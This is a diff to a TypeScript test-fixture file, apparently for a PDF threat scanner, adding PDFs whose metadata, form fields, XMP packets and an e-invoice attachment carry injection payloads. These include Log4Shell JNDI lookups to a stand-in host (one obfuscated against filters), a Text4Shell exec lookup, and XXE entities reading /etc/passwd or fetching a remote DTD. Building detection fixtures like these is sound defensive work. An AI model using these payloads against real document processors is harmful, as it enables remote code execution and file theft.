@@ -54,6 +54,22 @@ const pageOpen = (action: string): PlainParts => ({ page: `/AA << /O ${action} >
 /** an action object nothing refers to: code in the file that another reader, or a later update, may run */
 const unreferenced = (action: string): PlainParts => ({ setup: (b) => void b.add(action) });
 
+/** The plain document with a document information dictionary of `entries`. */
+function withInfo(entries: string): Uint8Array {
+  const b = plainDocument();
+  b.info = b.add(`<< ${entries} >>`);
+  return b.build();
+}
+
+/** The plain document with an XMP packet whose description holds `properties`, after `doctype`. */
+function withXmp(properties: string, doctype = ""): Uint8Array {
+  const xmp =
+    `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>${doctype}<x:xmpmeta xmlns:x="adobe:ns:meta/">` +
+    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" ` +
+    `xmlns:dc="http://purl.org/dc/elements/1.1/">${properties}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
+  return built({ setup: (b) => ({ catalog: `/Metadata ${b.addStream("/Type /Metadata /Subtype /XML", xmp)} 0 R` }) });
+}
+
 /** A TrueType font program whose SING table's uniqueName runs past its 28 bytes with no NUL (CVE-2010-2883). */
 function singFontDocument(): Uint8Array {
   return built({
@@ -148,6 +164,37 @@ export const CORE_FIXTURES: TechniqueFixtures = {
       }),
   },
   // a shop's order link whose address carried the injection: `) /S /JavaScript /JS (...` and the like
+  "processor-injection": {
+    "info-title-jndi": () => withInfo(`/Title ${hexString("${jndi:ldap://logs.example:1389/a}")} /Author (Accounts)`),
+    // the word hidden from filters by lookups that stand for one letter each
+    "nested-lookup-jndi": () =>
+      withInfo(`/Author ${hexString("${${lower:j}${::-n}di:${lower:L}dap://logs.example/x}")}`),
+    "form-value-jndi": () =>
+      built({
+        setup(b) {
+          const field = b.add(
+            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /V ${hexString("${jndi:rmi://logs.example/o}")} >>`,
+          );
+          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
+        },
+      }),
+    "xmp-jndi": () => withXmp(`<dc:title><rdf:Alt><rdf:li>\${jndi:dns://logs.example/q}</rdf:li></rdf:Alt></dc:title>`),
+    "text4shell-script-lookup": () =>
+      withInfo(`/Subject ${hexString("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}")}`),
+    "xmp-external-entity": () =>
+      withXmp("<dc:title>&xxe;</dc:title>", `<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`),
+    // an e-invoice's XML, which the buyer's payables system parses
+    "xml-attachment-external-entity": () =>
+      pdfWithAttachments([
+        {
+          name: "factur-x.xml",
+          subtype: "/text#2Fxml",
+          data: `<?xml version="1.0"?><!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY e SYSTEM "file:///etc/hosts">]><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"><note>&e;</note></rsm:CrossIndustryInvoice>`,
+        },
+      ]),
+    "xmp-parameter-entity": () =>
+      withXmp("", `<!DOCTYPE x:xmpmeta [<!ENTITY % ext SYSTEM "https://logs.example/evil.dtd"> %ext;]>`),
+  },
   "pdf-injection": {
     "uri-becomes-javascript": () =>
       built({
